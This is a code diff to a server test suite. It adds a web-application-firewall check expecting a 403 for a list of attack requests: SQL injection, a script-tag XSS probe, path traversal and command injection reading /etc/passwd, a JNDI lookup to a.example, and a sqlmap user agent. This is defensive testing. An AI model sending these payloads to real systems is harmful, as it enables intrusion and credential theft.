@@ -127,7 +127,24 @@ def cached(server, work):
         raise Failure(f"{server.name} does not keep answers: {answered}")
 
 
-CHECKS = {"gateway": gateway, "api-key": api_key, "headers": headers_changed, "routes": routes, "cache": cached}
+ATTACKS = (
+    "/?q=%27%20OR%20%271%27=%271", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/?file=../../../../etc/passwd", "/?q=%3B+cat+/etc/passwd",
+    "/?u=1+UNION+SELECT+password+FROM+users", "/?x=%24%7Bjndi:ldap://a.example/x%7D",
+)
+
+
+def waf(server, work):
+    """Attacks are refused, and nothing else."""
+    _, headers = work.requests[0]
+    for attack in ATTACKS:
+        refuses(server, attack, (attack, headers), 403)
+    refuses(server, "a scanner", ("/", {**headers, "User-Agent": "sqlmap/1.7"}), 403)
+    for request in work.requests:
+        if (status := ask(server, request)[0]) != 200:
+            raise Failure(f"{server.name} answers {status} to {request}\n{tail(server.log)}")
+
+
+CHECKS = {"waf": waf, "gateway": gateway, "api-key": api_key, "headers": headers_changed, "routes": routes, "cache": cached}
 
 
 def prove_limit(server, work):
